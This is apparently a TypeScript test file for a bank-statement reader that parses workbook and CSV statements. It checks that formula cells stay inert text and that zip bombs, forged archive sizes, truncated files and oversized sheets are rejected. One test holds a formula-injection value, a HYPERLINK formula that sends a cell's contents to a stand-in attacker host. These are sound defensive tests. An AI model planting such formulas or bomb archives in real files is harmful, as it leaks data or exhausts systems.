import { longTest } from '@gerbang/domain/testing/runs';
import { STATEMENT_PROFILES } from '@gerbang/domain/bank-statements';
import { movementsOf, PRINTERS } from './bank-files.ts';
import { cellsOf, workbook } from './bank-workbooks.ts';
import { readFile } from '../src/bank-statements/read-file.ts';
import { UnreadableStatement } from '../src/bank-statements/statement.ts';

const NONE = { shapes: [], chosen: false } as const;
const HEAD = ['TrxId', 'Tanggal', 'Trx Time', 'D/K', 'Mutasi', 'Saldo', 'Keterangan'];
const ROW = ['1', '2027-03-01', '10:00', 'K', '350,137.00', '1,350,137.00', 'RINA WATI'];
const MEGABYTE = 1_048_576;

const refusal = (bytes: Uint8Array) =>
  readFile(bytes, NONE).then(
    () => 'it was read',
    (error: unknown) => (error instanceof UnreadableStatement ? error.reason.code : String(error)),
  );

describe('statements as workbooks', () => {
  const movements = movementsOf(100_000_000, [
    { day: '2027-03-01', direction: 'in', sen: 35_013_700, text: 'BI-FAST CR RINA', reference: '771001' },
    { day: '2027-03-02', direction: 'out', sen: 1_250_050, text: 'BIAYA ADM', reference: '771002' },
  ]);

  test.each(STATEMENT_PROFILES)(
    'when %s comes as a workbook, then it is read as its CSV file is',
    async (profile) => {
      const text = PRINTERS[profile]({
        account: '0060003911777',
        opening: 100_000_000,
        movements,
        grouped: true,
      });
      const cells = cellsOf(text, profile === 'bca-pratinjau' ? ';' : ',');
      expect(await readFile(workbook([cells]), NONE)).toEqual(await readFile(Buffer.from(text), NONE));
    },
  );

  test('when days and amounts are kept as numbers, then they are the same day and sen', async () => {
    const row = ['1', { day: '2027-03-01' }, '10:00', 'K', 350_137.5, 1_350_137.5, 'RINA WATI'];
    const { lines } = await readFile(workbook([[HEAD, row]]), NONE);
    expect(lines).toMatchObject([{ booked_on: '2027-03-01', sen: 35_013_750, balance: 135_013_750 }]);
  });

  test('when a cell holds a formula, then its kept value is text and nothing is computed or fetched', async () => {
    const formula = 'HYPERLINK("https://jahat.example/?"&A1,"RINA")';
    const told = { formula, value: '=1+1 RINA WATI' };
    const { lines } = await readFile(workbook([[HEAD, [...ROW.slice(0, -1), told]]]), NONE);
    expect(lines.map(({ description }) => description)).toEqual(['=1+1 RINA WATI']);
    const csv = `${HEAD.join()}\n1,2027-03-01,10:00,K,350137.00,1350137.00,"=HYPERLINK(""https://jahat.example"")"`;
    const read = await readFile(Buffer.from(csv), NONE);
    expect(read.lines.map(({ description }) => description)).toEqual(['=HYPERLINK("https://jahat.example")']);
  });

  test('when there are several sheets, then the first one alone is read', async () => {
    const { lines } = await readFile(
      workbook([
        [HEAD, ROW],
        [HEAD, ROW, ROW],
      ]),
      NONE,
    );
    expect(lines).toHaveLength(1);
    expect(await refusal(workbook([[['halo']], [HEAD, ROW]]))).toBe('not_a_table');
  });

  test('when a workbook unpacks to more than 50 MB, has more than 100 sheets, or none, then it is no table', async () => {
    const bomb = workbook([[HEAD, ROW]], { 'xl/media/a.bin': new Uint8Array(50 * MEGABYTE) });
    expect(bomb.length).toBeLessThan(MEGABYTE);
    expect(await refusal(bomb)).toBe('not_a_table');
    const many = (sheets: number) => workbook(Array.from({ length: sheets }, () => [HEAD, ROW]));
    expect(await refusal(many(101))).toBe('not_a_table');
    expect((await readFile(many(100), NONE)).lines).toHaveLength(1);
    expect(await refusal(workbook([]))).toBe('not_a_table');
  });

  longTest('when an archive lies about its sizes or is cut, then it is no table', async () => {
    const sheet = 'xl/worksheets/sheet1.xml';
    const honest = workbook([[HEAD, ROW]], { [sheet]: new Uint8Array(60 * MEGABYTE) });
    // The size before packing, as the archive tells it beside the file and in its directory.
    const size = Buffer.alloc(4);
    size.writeUInt32LE(60 * MEGABYTE);
    const small = Buffer.from(honest);
    for (let at = small.indexOf(size); at >= 0; at = small.indexOf(size, at + 1)) small.writeUInt32LE(9, at);
    expect(await refusal(small)).toBe('not_a_table');
    expect(await refusal(workbook([[HEAD, ROW]]).subarray(0, 600))).toBe('not_a_table');
  });

  longTest('when a workbook has 20,001 lines, then it is too long', async () => {
    const rows = Array.from({ length: 20_001 }, () => ROW);
    expect(await refusal(workbook([[HEAD, ...rows]]))).toBe('too_long');
  });
});
